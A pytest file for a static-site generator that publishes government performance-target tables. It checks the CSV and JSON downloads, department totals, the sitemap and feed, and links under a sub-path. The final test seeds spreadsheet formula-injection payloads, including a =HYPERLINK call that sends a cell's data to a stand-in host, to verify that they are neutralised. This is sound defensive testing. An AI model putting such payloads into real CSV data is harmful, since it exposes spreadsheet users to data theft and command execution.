"""Open data and discovery: downloads read back to the content, department totals reconcile, the
sitemap/feed describe the site, and a site deployed under a sub-path has no broken link."""

from __future__ import annotations

import csv
import functools
import http.server
import io
import json
import re
import shutil
import sys
import threading
import urllib.request
import xml.etree.ElementTree as ET
from decimal import Decimal
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import urljoin, urlsplit

import pytest

from perfsite.load import is_evaluation
from perfsite.model import Project, build_project
from perfsite.source import load_file

from conftest import CONTENT, MINIMAL, ROOT, run_cli

sys.path.insert(0, str(ROOT / "benchmarks"))
from generate import generate  # noqa: E402


def content_projects(root: Path) -> dict[tuple[int, str], Project]:
    out = {}
    for path in sorted((root / "content").rglob("*.yaml")):
        if path.name == "site.yaml" or is_evaluation(path.relative_to(root / "content").as_posix()):
            continue  # the site config, and the self-evaluations beside the targets (自评/)
        source, _ = load_file(path, path.name)
        project, _, diags = build_project(source)
        assert project is not None, diags
        out[(project.year, project.id)] = project
    return out


@pytest.fixture(scope="module")
def built(tmp_path_factory) -> Path:
    root = tmp_path_factory.mktemp("opendata")
    shutil.copytree(CONTENT, root / "content")
    shutil.copytree(ROOT / "templates", root / "templates")
    (root / "content/2022/yuan-project.yaml").write_text(
        MINIMAL.replace("  资金来源:", "  单位: 元\n  资金来源:").replace("id: test-project", "id: yuan-project")
        .replace("资金总额: 10", "资金总额: 100000").replace("财政拨款: 10", "财政拨款: 100000")
        .replace("本级安排: 10", "本级安排: 100000").replace("主管部门及代码: 测试局", "主管部门及代码: 301-测试局")
        .replace("项目名称: 测试项目", "项目名称: 测试项目\n公开日期: '2022-03-15'"), encoding="utf-8")
    result = run_cli("build", cwd=root)
    assert result.returncode == 0, result.stderr
    return root


def read_csv(path: Path) -> list[dict[str, str]]:
    raw = path.read_bytes()
    assert raw.startswith("\ufeff".encode()), "CSV must start with a BOM so Excel reads UTF-8"
    assert b"\r\n" in raw
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))


def rebuild_from_csv(rows: list[dict[str, str]]) -> dict[str, dict]:
    """The projects as the CSV describes them, in content-file shape, amounts in 万元."""
    projects: dict[str, dict] = {}
    for row in rows:
        p = projects.setdefault(row["项目标识"], {
            "年度": int(row["年度"]), "项目名称": row["项目名称"], "主管部门及代码": row["主管部门及代码"],
            "实施单位": row["实施单位"], "资金来源": row["资金来源"] or None,
            "funds": {k: (Decimal(row[f"{k}（万元）"]) if row[f"{k}（万元）"] else None)
                      for k in ("资金总额", "财政拨款", "上级补助", "本级安排", "其他资金")},
            "年度目标": row["年度目标"].split("\n"), "rows": []})
        p["rows"].append((row["一级指标"], row["二级指标"], row["三级指标"], row["指标值"], row["说明"] or None))
    return projects


def as_csv_shape(project: Project) -> dict:
    f = project.funds
    return {"年度": project.year, "项目名称": project.name, "主管部门及代码": project.department,
            "实施单位": project.implementer, "资金来源": f.source,
            "funds": {label: f.wan(getattr(f, attr)) for label, attr in
                      (("资金总额", "total"), ("财政拨款", "fiscal"), ("上级补助", "upper"), ("本级安排", "local"),
                       ("其他资金", "other"))},
            "年度目标": project.goals, "rows": [(a, b, r.name, r.value_text, r.note) for a, b, _, r in project.rows()]}


NOTE = "原公开件（PDF）未载明预算批复日期和公开日期"  # the shipped site.yaml's, for 2022


def test_project_json_reads_back_to_the_same_project(built: Path):
    projects = content_projects(built)
    for (year, ident), project in projects.items():
        data = json.loads((built / f"output/{year}/{ident}.json").read_text(encoding="utf-8"))
        # the table as published: its year's 公开说明 from site.yaml filled in, else as the file has it
        assert Project.model_validate(data) == project.model_copy(update={"disclosure_note": NOTE})
        assert data["公开说明"] == NOTE
    assert json.loads((built / "output/2022/yuan-project.json").read_text(encoding="utf-8"))["资金"]["单位"] == "元"


def test_csv_downloads_read_back_to_the_same_data(built: Path):
    projects = content_projects(built)
    yearly = rebuild_from_csv(read_csv(built / "output/2022/indicators.csv"))
    assert set(yearly) == {ident for _, ident in projects}
    for (year, ident), project in projects.items():
        single = rebuild_from_csv(read_csv(built / f"output/{year}/{ident}.csv"))
        assert single[ident] == yearly[ident] == as_csv_shape(project)
    assert yearly["yuan-project"]["funds"]["资金总额"] == Decimal("10")  # 100000 元 → 10 万元


def test_csv_carries_the_parsed_values(built: Path):
    rows = {r["三级指标"]: r for r in read_csv(built / "output/2022/wuye-houqin.csv")}
    assert (rows["公共环境卫生清洁次数"]["比较符"], rows["公共环境卫生清洁次数"]["数值"], rows["公共环境卫生清洁次数"]["度量单位"]) == \
        ("≥", "7", "次")
    assert rows["工作完成时限"]["日期"] == "2022-12-31"


def test_datapackage_describes_the_files(built: Path):
    package = json.loads((built / "output/2022/datapackage.json").read_text(encoding="utf-8"))
    assert package["profile"] == "tabular-data-package" and package["name"] == "perfsite-2022"
    table = package["resources"][0]
    header = read_csv(built / "output/2022/indicators.csv")[0].keys()
    assert [f["name"] for f in table["schema"]["fields"]] == list(header)
    types = {f["name"]: f["type"] for f in table["schema"]["fields"]}
    for row in read_csv(built / f"output/2022/{table['path']}"):
        for name, kind in types.items():
            if row[name] and kind == "number":
                Decimal(row[name])
            if row[name] and kind == "integer":
                int(row[name])
            if row[name] and kind == "date":
                assert re.fullmatch(r"\d{4}-\d{2}-\d{2}", row[name])
    tables = [r for r in package["resources"] if r["name"].startswith("indicators")]
    departments = {p.department for p in content_projects(built).values()}
    assert [t["path"] for t in tables][0] == "indicators.csv" and len(tables) == 1 + len(departments)
    for table in tables:
        assert list(read_csv(built / "output/2022" / table["path"])[0]) == list(header)
    projects = package["resources"][len(tables):len(tables) + len(content_projects(built))]
    for resource in projects:
        assert (built / "output/2022" / resource["path"]).is_file() and resource["format"] == "json"
    # then the self-evaluations (content/2022/自评/): the year's scores, and each one's CSV and JSON
    evaluated = sorted(p.stem for p in (built / "content/2022/自评").glob("*.yaml"))
    rest = package["resources"][len(tables) + len(projects):]
    assert sorted(r["path"] for r in rest) == sorted(["ziping/scores.csv"] + [f"ziping/{i}.{ext}" for i in evaluated
                                                                              for ext in ("csv", "json")])
    assert all((built / "output/2022" / r["path"]).is_file() for r in rest)


def test_each_department_has_its_own_yearly_csv(built: Path):
    """Per department and year: exactly its projects' rows, linked from the year page and the
    department page; together they hold the whole year's file, row for row."""
    year = (built / "output/2022/index.html").read_text(encoding="utf-8")
    links = re.findall(r'href="(indicators/[^"]+\.csv)" download', year)
    assert len(links) == 2  # 黔南州住房和城乡建设局 and 301-测试局
    rows = []
    for link in links:
        part = read_csv(built / "output/2022" / link)
        assert len({r["主管部门及代码"] for r in part}) == 1
        department_page = next((built / "output/departments").glob(f"{Path(link).stem}.html"))
        assert f'href="../2022/{link}" download' in department_page.read_text(encoding="utf-8")
        rows += part
    whole = read_csv(built / "output/2022/indicators.csv")
    assert sorted(map(str, rows)) == sorted(map(str, whole))


def test_project_pages_link_their_downloads(built: Path):
    html = (built / "output/2022/wuye-houqin.html").read_text(encoding="utf-8")
    assert 'href="wuye-houqin.csv" download' in html and 'href="wuye-houqin.json" download' in html
    year = (built / "output/2022/index.html").read_text(encoding="utf-8")
    assert 'href="indicators.csv"' in year and 'href="datapackage.json"' in year


def _cells(html: str, cls: str) -> list[Decimal]:
    return [Decimal(v) for v in re.findall(rf'class="num {cls}">([\d.]+)<', html)]


def test_department_totals_reconcile_with_their_projects(tmp_path: Path):
    site = generate(150, tmp_path / "site")  # 50 projects over three years, one per department
    assert run_cli("build", "--no-search", cwd=site).returncode == 0
    projects = content_projects(site)
    pages = sorted((site / "output/departments").glob("d*.html"))
    assert len(pages) == 50
    grand = Decimal(0)
    for page in pages:
        html = page.read_text(encoding="utf-8")
        name = re.search(r"<h1>([^<]+?)(?: <span|</h1>)", html)[1]
        sections = re.split(r'<section class="department-year"', html)[1:]
        year_totals = _cells(html.split('<section class="department-year"')[0], "dept-year-total")
        assert len(sections) == len(year_totals)
        for section, total in zip(sections, year_totals):
            year = int(re.search(r'id="y(\d{4})"', section)[1])
            listed = _cells(section, "project-total")
            expected = [p.funds.wan(p.funds.total) for (y, _), p in projects.items()
                        if y == year and p.department_name == name]
            assert sorted(listed) == sorted(expected) and sum(listed) == total
            grand += total
        assert "<svg" in html and "<script" not in html.split("</head>")[1]
    assert grand == sum(p.funds.wan(p.funds.total) for p in projects.values())


def test_sitemap_robots_and_feed(built: Path):
    out = built / "output"
    pages = sorted(p.relative_to(out).as_posix() for p in out.rglob("*.html") if not p.match("pagefind/*"))
    sitemap = ET.parse(out / "sitemap.xml").getroot()
    ns = {"s": "http://www.sitemaps.org/schemas/sitemap/0.9"}
    locs = [e.text for e in sitemap.findall("s:url/s:loc", ns)]
    assert sorted(locs) == sorted(f"https://example.gov.cn/xxgk/jxmb/{p}" for p in pages)
    assert (out / "robots.txt").read_text() .endswith("Sitemap: https://example.gov.cn/xxgk/jxmb/sitemap.xml\n")
    feed = ET.parse(out / "feed.xml").getroot()
    atom = {"a": "http://www.w3.org/2005/Atom"}
    entries = feed.findall("a:entry", atom)
    evaluations = len(list((built / "content/2022/自评").glob("*.yaml")))  # the shipped examples
    assert len(entries) == len(content_projects(built)) + evaluations
    dated = {e.find("a:title", atom).text: e.find("a:updated", atom).text for e in entries}
    assert dated["测试项目（2022年度）"] == "2022-03-15T00:00:00Z"  # 公开日期 from content
    assert dated["局机关物业管理后勤工作经费（2022年度）"] == "2022-01-01T00:00:00Z"  # no date: 1 January
    # a self-evaluation without 公开日期: 1 January after its year (it is published with the 决算)
    assert dated["自评：局机关物业管理后勤工作经费（2022年度）"] == "2023-01-01T00:00:00Z"
    assert feed.find("a:updated", atom).text == max(dated.values())  # the newest entry, not the clock
    newest = [e.find("a:title", atom).text for e in entries if e.find("a:updated", atom).text == max(dated.values())]
    assert entries[0].find("a:title", atom).text == newest[0]


def test_a_site_of_more_pages_than_one_sitemap_may_list_gets_a_sitemap_index(tmp_path: Path, monkeypatch):
    """Above outputs.SITEMAP_LIMIT pages (50,000 by the protocol; search engines ignore a longer
    file) sitemap.xml indexes one sitemap per year, in parts within the limit, and one of the
    other pages; together they list every page once. An edit that moves no page rewrites none."""
    from perfsite import outputs
    from perfsite.builder import Builder

    monkeypatch.setattr(outputs, "SITEMAP_LIMIT", 20)
    site = generate(90, tmp_path / "site")  # 30 projects a year: each year's pages in two parts
    out = site / "output"
    assert Builder(site / "content", site / "templates", out, search=False).build().ok
    ns = {"s": "http://www.sitemaps.org/schemas/sitemap/0.9"}
    index = ET.parse(out / "sitemap.xml").getroot()
    assert index.tag == "{http://www.sitemaps.org/schemas/sitemap/0.9}sitemapindex"
    base = "https://example.gov.cn/xxgk/jxmb/"
    parts = [e.text.removeprefix(base) for e in index.findall("s:sitemap/s:loc", ns)]
    assert "sitemap-site-1.xml" in parts and "sitemap-2023-2.xml" in parts
    listed = []
    for part in parts:
        locs = [e.text.removeprefix(base) for e in ET.parse(out / part).getroot().findall("s:url/s:loc", ns)]
        group = part.split("-")[1].removesuffix(".xml")
        assert 0 < len(locs) <= 20
        assert all(loc.startswith(f"{group}/") if group != "site" else not loc[:4].isdigit() for loc in locs), part
        listed += locs
    assert sorted(listed) == sorted(p.relative_to(out).as_posix() for p in out.rglob("*.html"))

    target = site / "content/2023/p000001.yaml"
    target.write_text(target.read_text(encoding="utf-8").replace("实施单位: ", "实施单位: 新", 1), encoding="utf-8")
    result = Builder(site / "content", site / "templates", out, search=False).build()
    assert result.ok and not [p for p in result.written if p.startswith("sitemap")]


class _Links(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.links: list[str] = []

    def handle_starttag(self, tag, attrs):
        for name, value in attrs:
            if name in ("href", "src") and value and tag != "link" or (tag == "link" and name == "href"
                                                                        and dict(attrs).get("rel") != "canonical"):
                if value and name in ("href", "src"):
                    self.links.append(value)


def test_a_site_under_a_sub_path_has_no_broken_link(built: Path):
    """Serve output/ at /xxgk/jxmb/ (as the base URL says) and crawl every internal link from there."""
    prefix = "/xxgk/jxmb/"
    root = built / "output"

    class Handler(http.server.SimpleHTTPRequestHandler):
        def translate_path(self, path: str) -> str:
            path = urlsplit(path).path
            if not path.startswith(prefix):
                return str(root / "__outside_the_sub_path__")
            return super().translate_path("/" + path[len(prefix):])

        def log_message(self, *args) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(Handler, directory=str(root)))
    threading.Thread(target=server.serve_forever, daemon=True).start()
    base = f"http://127.0.0.1:{server.server_address[1]}{prefix}"
    try:
        seen, todo, broken = set(), [base + "index.html"], []
        while todo:
            url = todo.pop()
            if url in seen:
                continue
            seen.add(url)
            try:
                with urllib.request.urlopen(url, timeout=10) as response:
                    body = response.read()
                    kind = response.headers.get("Content-Type", "")
            except Exception as exc:  # noqa: BLE001 - any failure is a broken link
                broken.append(f"{url}: {exc}")
                continue
            if "html" in kind:
                parser = _Links()
                parser.feed(body.decode("utf-8"))
                for link in parser.links:
                    target = urljoin(url, link).split("#")[0]
                    if target.startswith(f"http://127.0.0.1:{server.server_address[1]}/"):
                        assert target.startswith(base), f"{url} links outside the sub-path: {link}"
                        todo.append(target)
        assert broken == []
        assert len([u for u in seen if u.endswith(".html")]) >= 10
    finally:
        server.shutdown()
        server.server_close()


def test_a_large_site_lists_departments_on_the_home_page_and_feeds_the_newest(tmp_path: Path, monkeypatch):
    """Above Site.INDEX_LIMIT projects the home page lists each year's departments (count, total,
    a link to the year page's section), and the feed carries the newest FEED_ENTRIES tables."""
    from perfsite import outputs
    from perfsite.builder import Builder
    from perfsite.site import Site

    monkeypatch.setattr(Site, "INDEX_LIMIT", 50)
    monkeypatch.setattr(outputs, "FEED_ENTRIES", 7)
    site = generate(90, tmp_path / "site")  # 3 years of 30 projects
    out = site / "output"
    assert Builder(site / "content", site / "templates", out, search=False, strict=True).build().ok  # links checked
    home = (out / "index.html").read_text(encoding="utf-8")
    assert not re.search(r'href="\d{4}/p\d+\.html"', home)  # no project listed
    sections = re.findall(r'<a href="(\d{4})/index.html#(d\d+)">', home)
    for year in ("2022", "2023", "2024"):
        year_page = (out / year / "index.html").read_text(encoding="utf-8")
        slugs = [slug for y, slug in sections if y == year]
        assert slugs and all(f'id="{slug}"' in year_page for slug in slugs)
    counts = re.findall(r'<td class="num">(\d+)</td><td class="num dept-total">', home)
    assert sum(int(n) for n in counts) == 90
    entries = ET.parse(out / "feed.xml").getroot().findall("{http://www.w3.org/2005/Atom}entry")
    assert len(entries) == 7
    updated = [e.find("{http://www.w3.org/2005/Atom}updated").text for e in entries]
    assert updated == sorted(updated, reverse=True) and updated[0].startswith("2024")


def test_a_large_year_is_downloaded_per_department(tmp_path: Path, monkeypatch):
    """Above YearPage.WHOLE_CSV_LIMIT projects there is no CSV of the whole year (tens of MB,
    rewritten on every edit): each department's file is linked instead, the data package lists
    them, and an edit rewrites only its own department's file."""
    from perfsite.builder import Builder
    from perfsite.site import YearPage

    monkeypatch.setattr(YearPage, "WHOLE_CSV_LIMIT", 20)
    site = generate(90, tmp_path / "site")  # 3 years of 30 projects
    out = site / "output"
    assert Builder(site / "content", site / "templates", out, search=False, strict=True).build().ok  # links checked
    assert not (out / "2022/indicators.csv").exists()
    year = (out / "2022/index.html").read_text(encoding="utf-8")
    assert 'href="indicators.csv"' not in year and "按部门分别下载" in year
    package = json.loads((out / "2022/datapackage.json").read_text(encoding="utf-8"))
    tables = {r["path"] for r in package["resources"] if r["format"] == "csv"}
    assert tables == set(re.findall(r'href="(indicators/[^"]+\.csv)" download', year)) and len(tables) > 1
    ids = [r["项目标识"] for t in sorted(tables) for r in read_csv(out / "2022" / t)]
    assert len(set(ids)) == 30

    target = site / "content/2022/p000000.yaml"
    department = re.search(r"主管部门及代码: (.+)", target.read_text(encoding="utf-8"))[1].strip()
    assert "良好" in target.read_text(encoding="utf-8")
    target.write_text(target.read_text(encoding="utf-8").replace("良好", "较好", 1), encoding="utf-8")
    result = Builder(site / "content", site / "templates", out, search=False).build()
    written = [p for p in result.written if p.endswith(".csv") and "/indicators/" in p]
    assert len(written) == 1
    rows = read_csv(out / written[0])
    assert {r["主管部门及代码"] for r in rows} == {department}
    assert "较好" in [r["指标值"] for r in rows if r["项目标识"] == "p000000"]


def test_no_project_id_can_overwrite_a_file_of_its_year(tmp_path: Path):
    """A project's files are <year>/<id>.html/.json/.csv beside the year's own pages: an id that
    names one of those (index, changes, …) is refused with E024 at the id, and every file a year
    folder holds that is not a project's has such a name (so a new page cannot bring a clash)."""
    from perfsite.builder import Builder
    from perfsite.model import RESERVED_IDS

    site = generate(60, tmp_path / "site")  # 3 years: changes pages too
    assert Builder(site / "content", site / "templates", site / "output", search=False).build().ok
    ids = {p.stem for p in (site / "content").rglob("*.yaml")}
    own = {p.name.partition(".")[0] for p in (site / "output/2023").iterdir()} - ids
    valid = re.compile(r"^[a-z0-9](?:[a-z0-9-]{0,62}[a-z0-9])?$")
    assert {"index", "changes", "datapackage", "indicators"} <= own
    assert {name for name in own if valid.match(name)} <= set(RESERVED_IDS)

    target = site / "content/2023/p000001.yaml"
    text = target.read_text(encoding="utf-8")
    target.write_text(text.replace("id: p000001", "id: changes"), encoding="utf-8")
    before = (site / "output/2023/changes.html").read_bytes()
    result = run_cli("build", "--no-search", cwd=site)
    assert result.returncode == 1
    line = text.splitlines().index("id: p000001") + 1
    assert f"content/2023/p000001.yaml:{line}:5: error E024 id「changes」" in result.stdout + result.stderr
    assert (site / "output/2023/changes.html").read_bytes() == before  # nothing published


def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised(site_dir: Path):
    """A text cell starting with = + - @ TAB or CR would run in Excel (=HYPERLINK exfiltrates,
    =cmd|… runs programs): the CSV downloads prefix it with an apostrophe (OWASP), the JSON keeps
    the text as written, and the data package says so."""
    import csv
    import io
    import json

    from conftest import run_cli

    path = site_dir / "content/2022/test-project.yaml"
    text = path.read_text(encoding="utf-8").replace(
        "实施单位: 测试局", """实施单位: '=HYPERLINK("http://x/?"&A1,"点击")'""").replace(
        "        指标值: ≥1次\n", "        指标值: ≥1次\n        说明: \"@SUM(1+1)\\t\"\n").replace(
        "  资金来源: 财政资金", "  资金来源: \"-2+3\"")
    path.write_text(text, encoding="utf-8")
    result = run_cli("build", "--no-search", cwd=site_dir)
    assert result.returncode == 0, result.stderr
    for name in ("2022/test-project.csv", "2022/indicators.csv"):
        rows = list(csv.DictReader(io.StringIO((site_dir / "output" / name).read_text(encoding="utf-8-sig"))))
        assert {r["实施单位"] for r in rows} == {"""'=HYPERLINK("http://x/?"&A1,"点击")"""}, name
        assert {r["资金来源"] for r in rows} == {"'-2+3"}
        assert "'@SUM(1+1)\t" in {r["说明"] for r in rows}
        assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r.values())
        assert {r["资金总额（万元）"] for r in rows} == {"10"}  # numbers stay numbers
    data = json.loads((site_dir / "output/2022/test-project.json").read_text(encoding="utf-8"))
    assert data["实施单位"] == '=HYPERLINK("http://x/?"&A1,"点击")' and data["资金"]["资金来源"] == "-2+3"
    package = json.loads((site_dir / "output/2022/datapackage.json").read_text(encoding="utf-8"))
    assert "公式" in package["description"] and "'" in package["description"]
